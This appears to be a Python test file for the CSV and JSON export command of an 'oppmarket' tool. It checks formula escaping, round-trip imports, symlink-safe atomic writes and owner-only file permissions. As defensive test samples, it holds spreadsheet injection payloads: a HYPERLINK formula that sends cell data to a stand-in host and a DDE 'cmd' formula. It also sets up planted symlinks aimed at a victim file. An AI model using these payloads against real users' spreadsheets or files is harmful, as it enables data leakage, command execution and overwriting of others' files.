"""Exports are safe to open and safe to write: no cell runs as a spreadsheet formula,
and `export -o` never writes through a planted link, never leaves half a file, and
leaves a file only its owner can read."""

from __future__ import annotations

import csv
import io
import json
import os
import stat

import pytest

from oppmarket import cli, identity, transfer
from oppmarket.domain import OpportunityDraft

FORMULA_TITLE = '=HYPERLINK("http://x"&B2,"Open")'
FORMULA_NAME = "=cmd|'/C calc'!A0"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def run(capsys, *argv):
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def hostile(org, monkeypatch):
    """The organisation with a formula in a display name, a title, a skill and a
    posting (which eng1 applied to); the command line acts as the admin."""
    org.add_person("mallory", FORMULA_NAME, title="@SUM(A1:A9)", email="-m@example.com")
    org.add_skill("+Formulas", description="=1+1", aliases=["-fx"])
    opp = org.as_user("owner").post(OpportunityDraft(title=FORMULA_TITLE, description="-2+3",
                                                     hours_per_week=2, location="@home",
                                                     skills=[("+Formulas", 2, "required")]), publish=True)
    org.as_user("eng1").apply(opp.id, "hi")
    monkeypatch.setattr(identity, "os_login", lambda: "admin")
    return org


# ---------------------------------------------------------------- formulas


@pytest.mark.parametrize("what", sorted(cli.EXPORTS))
def test_no_csv_cell_starts_a_formula(capsys, db_url, hostile, tmp_path, what):
    code, out, _ = run(capsys, "--db", db_url, "export", what)
    assert code == 0
    target = tmp_path / f"{what}.csv"
    code, _, _ = run(capsys, "--db", db_url, "export", what, "-o", str(target))
    assert code == 0
    for text in (out, target.read_text(encoding="utf-8")):
        cells = cells_of(text)
        assert cells and not [c for c in cells if c.startswith(DANGEROUS_START)]
        assert any(c.startswith("'") for c in cells)  # the hostile row is there, quoted


def test_hostile_cells_come_out_quoted_and_exact_after_the_quote(capsys, db_url, hostile):
    _, people, _ = run(capsys, "--db", db_url, "export", "people")
    mallory = next(r for r in rows_of(people) if r["username"] == "mallory")
    assert mallory["display_name"] == "'" + FORMULA_NAME
    assert mallory["title"] == "'@SUM(A1:A9)" and mallory["email"] == "'-m@example.com"
    _, opps, _ = run(capsys, "--db", db_url, "export", "opportunities")
    (opp,) = rows_of(opps)
    assert opp["title"] == "'" + FORMULA_TITLE
    assert opp["description"] == "'-2+3" and opp["location"] == "'@home"
    assert opp["required_skills"] == "'+Formulas:2"
    assert opp["hours_per_week"] == "2" and opp["seats"] == "1"  # plain fields stay plain
    _, skills, _ = run(capsys, "--db", db_url, "export", "skills")
    skill = next(r for r in rows_of(skills) if r["name"] == "'+Formulas")
    assert skill["aliases"] == "'-fx" and skill["description"] == "'=1+1"
    _, apps, _ = run(capsys, "--db", db_url, "export", "applications")
    (app,) = rows_of(apps)
    assert app["opportunity_title"] == "'" + FORMULA_TITLE


def test_json_export_keeps_the_text_exact(capsys, db_url, hostile):
    _, out, _ = run(capsys, "--db", db_url, "export", "people", "--format", "json")
    assert {p["username"]: p["display_name"] for p in json.loads(out)}["mallory"] == FORMULA_NAME
    _, out, _ = run(capsys, "--db", db_url, "export", "opportunities", "--format", "json")
    assert json.loads(out)[0]["title"] == FORMULA_TITLE


@pytest.mark.parametrize(("start", "kept"), [("\t", "\t"), ("\r", "")])
def test_cells_starting_with_a_tab_or_return_are_quoted(start, kept):
    # Stored text never holds either (input is cleaned), but a record handed to the
    # writer might; the csv module leaves a lone return unquoted, so look at the text.
    # A lone return is a control character, dropped; the formula behind it is quoted.
    record = {"name": "Tabs", "category": "General", "aliases": [], "description": start + "=1+1"}
    text = transfer.to_text([record], transfer.SKILL_COLUMNS, "csv")
    assert text.endswith("\nTabs,General,,'" + kept + "=1+1\n")


@pytest.mark.parametrize(
    "title",
    [FORMULA_TITLE, "+1", "-1", "@x", "'=x", "''=x", "'", "''", "'quoted", "it's fine", "plain"],
)
def test_quoted_cells_parse_back_to_the_original(tmp_path, title):
    record = {"kind": "gig", "title": title, "owner": "ivy", "hours_per_week": 2, "remote": True,
              "required_skills": [], "grows_skills": []}
    path = tmp_path / "o.csv"
    path.write_text(transfer.to_text([record], transfer.OPPORTUNITY_COLUMNS, "csv"), encoding="utf-8")
    assert [row.draft.title for row in transfer.parse_opportunities(path)] == [title]


def test_csv_export_imports_into_a_new_database_unchanged(capsys, db_url, hostile, tmp_path):
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    for what in ("skills", "people", "opportunities"):
        target = tmp_path / f"{what}.csv"
        assert run(capsys, "--db", db_url, "export", what, "-o", str(target))[0] == 0
        code, _, err = run(capsys, "--db", fresh, "import", what, str(target))
        assert code == 0, err

    def exported(url, what):
        records = json.loads(run(capsys, "--db", url, "export", what, "--format", "json")[1])
        for record in records:
            record.pop("id", None)
            record.pop("seats_taken", None)  # applications are not part of the files
        return records

    for what in ("skills", "people", "opportunities"):
        assert exported(fresh, what) == exported(db_url, what)


# ---------------------------------------------------------------- writing the file


@pytest.fixture
def exporter(capsys, db_url, org, monkeypatch):
    """export(what, target) -> (exit code, stderr) of `oppmarket export WHAT -o TARGET`."""
    monkeypatch.setattr(identity, "os_login", lambda: "admin")

    def export(what, target):
        code, _, err = run(capsys, "--db", db_url, "export", what, "-o", str(target))
        return code, err

    return export


def test_a_planted_part_link_does_not_redirect_the_export(exporter, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    target = shared / "people.csv"
    (shared / "people.csv.part").symlink_to(victim)
    code, err = exporter("people", target)
    assert code == 0, err
    assert victim.read_text() == "precious\n"
    assert not target.is_symlink() and target.read_text().startswith("username,")
    assert (shared / "people.csv.part").is_symlink()  # the planted link is not ours to remove


def test_a_link_at_the_target_is_replaced_not_followed(exporter, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "people.csv"
    target.symlink_to(victim)
    code, err = exporter("people", target)
    assert code == 0, err
    assert victim.read_text() == "precious\n"
    assert not target.is_symlink() and target.read_text().startswith("username,")


@pytest.mark.parametrize("existing", [False, True])
def test_the_export_is_readable_by_its_owner_only(exporter, tmp_path, existing):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "applications.csv"
    if existing:
        target.write_text("old\n")
        target.chmod(0o644)
    code, err = exporter("applications", target)
    assert code == 0, err
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert os.listdir(folder) == ["applications.csv"]


def _failing_writer(error: BaseException):
    def write_records(records, columns, fmt, out):
        out.write(",".join(columns) + "\nhalf a row")
        out.flush()
        raise error

    return write_records


@pytest.mark.parametrize("existing", [False, True])
def test_a_failed_export_leaves_no_partial_file(exporter, tmp_path, monkeypatch, existing):
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "people.csv"
    if existing:
        target.write_text("the previous export\n")
    monkeypatch.setattr(transfer, "write_records", _failing_writer(OSError(28, "No space left on device")))
    code, err = exporter("people", target)
    assert code == 1 and err.count("\n") == 1 and "cannot write" in err and "No space left" in err
    assert os.listdir(folder) == (["people.csv"] if existing else [])
    if existing:
        assert target.read_text() == "the previous export\n"


def test_an_unexpected_failure_also_cleans_up(exporter, tmp_path, monkeypatch):
    folder = tmp_path / "out"
    folder.mkdir()
    monkeypatch.setattr(transfer, "write_records", _failing_writer(RuntimeError("boom")))
    code, err = exporter("people", folder / "people.csv")
    assert code == 1 and err.count("\n") == 1 and "RuntimeError: boom" in err
    assert os.listdir(folder) == []


def test_an_export_into_a_missing_folder_is_one_line(exporter, tmp_path):
    code, err = exporter("people", tmp_path / "no" / "such" / "f.csv")
    assert code == 1 and err.count("\n") == 1 and "cannot write" in err
